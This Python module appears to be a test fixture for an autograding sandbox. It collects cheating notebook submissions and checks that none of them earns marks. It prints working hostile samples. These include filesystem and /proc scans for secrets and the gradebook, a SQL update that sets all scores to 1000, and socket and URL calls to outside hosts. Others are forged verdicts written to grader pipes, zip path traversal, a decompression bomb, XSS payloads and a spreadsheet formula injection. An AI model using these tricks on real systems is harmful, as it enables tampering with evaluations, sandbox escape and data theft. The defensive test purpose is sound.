"""Code that looks for what is not its own: hidden cases, the secret, the gradebook, the network, the pipe."""

from __future__ import annotations

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

from zoo.forgeries import without
from zoo.kit import LIGHT, NOTHING, Entry, Kit, Link, written

FILES = """
import os

def lugares():
    partida = [CURSO, REPOSITORIO, os.path.dirname(CURSO), "..", "../..", "/root", "/home", "/tmp"]
    partida += ["/var/tmp", "/dev/shm"]
    for proceso in os.listdir("/proc"):
        if proceso.isdigit():
            for raiz in ("root", "cwd"):
                partida += [f"/proc/{proceso}/{raiz}{sitio}" for sitio in ("", CURSO, REPOSITORIO + "/grading")]
            partida += [f"/proc/{proceso}/fd", f"/proc/{proceso}/environ"]
    return partida

def consigue():
    buscados = ("gradebook.db", "secreto.txt", "alumnos.csv", "p_sirve_y_demuestralo.py", "calificar.py", "submitted")
    hallados = []
    for lugar in lugares():
        for carpeta, carpetas, archivos in os.walk(lugar):
            hallados += [n for n in (*carpetas, *archivos) if n in buscados]
            if carpeta.count("/") > lugar.count("/") + 4:
                carpetas.clear()
    for archivo in ("secreto.txt", "gradebook.db", "curso.toml", "intentos"):
        try:
            os.stat(os.path.join(CURSO, archivo))
            hallados.append(archivo)
        except OSError:
            pass
    return hallados
"""
LINKS = """
import os

def consigue():
    visto = []
    destinos = [CURSO, f"{CURSO}/secreto.txt", f"{REPOSITORIO}/grading", "/proc/1/root", "/proc/1/cwd"]
    for numero, destino in enumerate(destinos):
        enlace = f"enlace-{numero}"
        try:
            os.symlink(destino, enlace)
            visto += os.listdir(enlace) if os.path.isdir(enlace) else [open(enlace).read()]
        except OSError:
            continue
    return [v for v in visto if v in ("secreto.txt", "casos", "gradebook.db") or len(v) == 64]
"""
GRADEBOOK = """
import os, sqlite3

def consigue():
    hecho = 0
    caminos = [CURSO, ".", "..", "../..", "../../..", f"/proc/1/root{CURSO}", f"/proc/{os.getppid()}/cwd"]
    for carpeta in (*caminos, os.environ["HOME"]):
        libro = os.path.join(carpeta, "gradebook.db")
        if not os.path.exists(libro):
            continue
        try:
            with sqlite3.connect(libro) as base:
                hecho += base.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000").rowcount
                base.execute("UPDATE grade_cell SET max_score = 1000")
        except sqlite3.Error:
            continue
    for carpeta in (CURSO, f"{CURSO}/autograded", f"{CURSO}/submitted", "/tmp", "/var/tmp", "/dev/shm"):
        try:
            with open(os.path.join(carpeta, "zoo_superviviente"), "w") as salida:
                salida.write("estuve aquí")
            hecho += carpeta.startswith(CURSO)
        except OSError:
            continue
    return hecho
"""
NETWORK = """
import socket, urllib.request

def consigue():
    hecho = 0
    for familia, destino in (
        (socket.AF_INET, ("127.0.0.1", PUERTO)),
        (socket.AF_INET, ("1.1.1.1", 53)),
        (socket.AF_INET6, ("::1", PUERTO)),
        (socket.AF_UNIX, f"\\0zoo-{PUERTO}"),
    ):
        try:
            with socket.socket(familia) as enchufe:
                enchufe.settimeout(1)
                enchufe.connect(destino)
                enchufe.sendall(b"aqui van las pruebas")
                hecho += 1
        except OSError:
            continue
    for url in (f"http://127.0.0.1:{PUERTO}/", "http://example.com/"):
        try:
            urllib.request.urlopen(url, timeout=1)
            hecho += 1
        except OSError:
            continue
    try:
        socket.getaddrinfo("example.com", 80)
        hecho += 1
    except OSError:
        pass
    return hecho
"""
FRAMES = """
import gc, sys

def consigue():
    vistos, marco = [], sys._getframe()
    while marco:
        vistos += [*marco.f_locals.values(), *marco.f_globals.values()]
        marco = marco.f_back
    vistos += gc.get_objects()
    nombres = {type(v).__name__ for v in vistos}
    cuaderno = [n for n in ("In", "Out", "get_ipython", "_ih") if n in globals()]
    claves = [v for v in vistos if type(v) is dict and {"expected", "esperado", "hint", "semilla"} & set(map(str, v))]
    return cuaderno or claves or nombres & {"Case", "Check", "Grading", "CheckMark", "Session"}
"""
REFERENCE = """
import importlib, sys

def consigue():
    hallados = []
    sys.path[:0] = [REPOSITORIO, REPOSITORIO + "/labs", REPOSITORIO + "/grading"]
    for modulo in ("minillm_serve", "minillm_kernels", "minilab", "minilab_grading", "casos", "grading", "arnes"):
        try:
            hallados.append(importlib.import_module(modulo))
        except ImportError:
            continue
    return hallados
"""
MEMORY = """
import os, pathlib

YO = os.urandom(8).hex()

def consigue():
    carpetas = (".", "..", "/tmp", "/var/tmp", "/dev/shm", "/run", os.environ["HOME"])
    recuerdos = [pathlib.Path(carpeta) / "zoo_superviviente" for carpeta in carpetas]
    habia = [r for r in recuerdos if r.exists() and r.read_text() != YO]
    for recuerdo in recuerdos:
        try:
            recuerdo.write_text(YO)
        except OSError:
            continue
    return habia
"""
EARLY_WRITES = """
import json, os
for canal in range(3, 12):
    for turno in ("", "0", "1", 0, None):
        try:
            os.write(canal, (json.dumps({"n": turno, "valor": True}) + "\\n").encode())
        except OSError:
            break

def cuerpo_json(pregunta, esquema, max_tokens=512):
    return True
"""
PIPE_THREAD = """
import os, threading

def _escribe():
    while True:
        for canal in range(1, 12):
            try:
                os.write(canal, b'{"n": "", "valor": {"cumple": true}}\\n')
            except OSError:
                continue

threading.Thread(target=_escribe, daemon=True).start()

def veredicto(informe):
    return {}
"""
STOLEN_NONCE = """
import gc, json, os, sys

def cuerpo_json(pregunta, esquema, max_tokens=512):
    marco = sys._getframe()
    while marco:
        for valor in list(marco.f_locals.values()):
            if type(valor) is dict and "n" in valor:
                for canal in range(3, 12):
                    try:
                        os.write(canal, (json.dumps({"n": valor["n"], "aprobado": True}) + "\\n").encode())
                    except OSError:
                        continue
        marco = marco.f_back
    return {}
"""
CLASS_BODY = """
class Aparenta:
    import os as _os
    try:
        open("/tmp/zoo_superviviente", "w").write("me ejecutaron")
    except OSError:
        pass
    aprobado = 1 / 0

def veredicto(informe):
    return {"cumple": True}
"""
SCRIPT = '<script>document.title="robado"</script>'
ANSWER = f"""Mi predicción fue 10 y medí 7. {SCRIPT}
<img src=x onerror="document.title='robado'"> <iframe src="https://example.com/espia"></iframe>
[enlace](javascript:alert(1)) <svg onload=alert(2)></svg> ![rastro](https://example.com/pixel.png)
<a href="jav&#x09;ascript:alert(3)">x</a> <style>body{{display:none}}</style> <form action="https://example.com"></form>
"""


def spy(id: str, story: str, **tricks: str) -> Entry:
    """Cells that answer only if their trick works: their checks at 0 say that nothing was within reach."""
    return Entry(
        id=id,
        story=story,
        kind="cheat",
        needs_sandbox=True,
        make=lambda kit: kit.light(**{cell: kit.only_if(cell, trick) for cell, trick in tricks.items()}),
        marks=without(*tricks),
    )


def class_body(kit: Kit) -> NotebookNode:
    """An added cell is not run, but a class is made: its body runs in the sandbox, and the solution cell wins."""
    notebook = kit.light()
    notebook.cells.append(new_code_cell(CLASS_BODY))
    return notebook


def evil_members(kit: Kit) -> dict[str, bytes | Link]:
    """Names that lead out of the folder, links to what is not the student's, and much in little."""
    intruder = written(kit.light())
    return {
        "../../gradebook.db": b"zoo_superviviente",
        "../zoo_superviviente.ipynb": intruder,
        "/tmp/zoo_superviviente": b"absoluto",
        "..\\..\\zoo_superviviente": b"al modo de Windows",
        "enlazada.ipynb": Link(str(kit.course / "secreto.txt")),
        "carpeta_enlazada": Link(str(kit.course / "source")),
        "bomba.ipynb": b"z" * (60 << 20),
    }


ESCAPES = (
    spy(
        "espia_disco",
        "recorre discos y procesos, enlaza lo ajeno, escribe en el libro de notas y deja marcas",
        prediccion=FILES,
        cuerpo_json=LINKS,
        veredicto=GRADEBOOK,
    ),
    spy(
        "espia_proceso",
        "se conecta fuera, importa al corrector, busca lo esperado en su propia memoria",
        prediccion=NETWORK,
        cuerpo_json=REFERENCE,
        veredicto=FRAMES,
    ),
    spy("recuerda", "guarda respuestas para la próxima vez", cuerpo_json=MEMORY, veredicto=MEMORY),
    # It writes when its cell is loaded, which the session against vLLM does too.
    Entry(
        id="escribe_antes",
        story="escribe en el canal antes de la llamada",
        kind="cheat",
        make=lambda kit: kit.light(cuerpo_json=EARLY_WRITES),
        marks=without("cuerpo_json", "vllm"),
    ),
    Entry(
        id="canal",
        story="un hilo que no deja de escribir en el canal, y respuestas con el número de la llamada en curso",
        kind="cheat",
        make=lambda kit: kit.light(veredicto=PIPE_THREAD, cuerpo_json=STOLEN_NONCE),
        marks=without("veredicto", "cuerpo_json"),
    ),
    Entry(
        id="cuerpo_de_clase",
        story="una clase que se ejecuta al definirse",
        kind="cheat",
        needs_sandbox=True,
        make=class_body,
        marks=LIGHT,
    ),
    Entry(
        id="zip_con_salidas",
        story="nombres y enlaces que salen de la carpeta",
        kind="cheat",
        make=Kit.light,
        more=evil_members,
        marks=LIGHT,
    ),
    Entry(
        id="pagina_activa",
        story="HTML y JavaScript en la explicación",
        kind="cheat",
        make=lambda kit: kit.light(explica=ANSWER),
        marks=LIGHT,
        page=("Mi predicción fue 10",),
        not_on_page=(SCRIPT, "onerror=", "onload=", "<iframe", "javascript:alert", "https://example.com"),
    ),
    Entry(
        id="formula",
        story="una fórmula como nombre",
        kind="cheat",
        make=lambda kit: kit.fill(prediccion=kit.solutions["prediccion"]),
        marks={**NOTHING, "prueba_prediccion": 2},
        name='=HYPERLINK("http://example.com";"notas")',
    ),
)
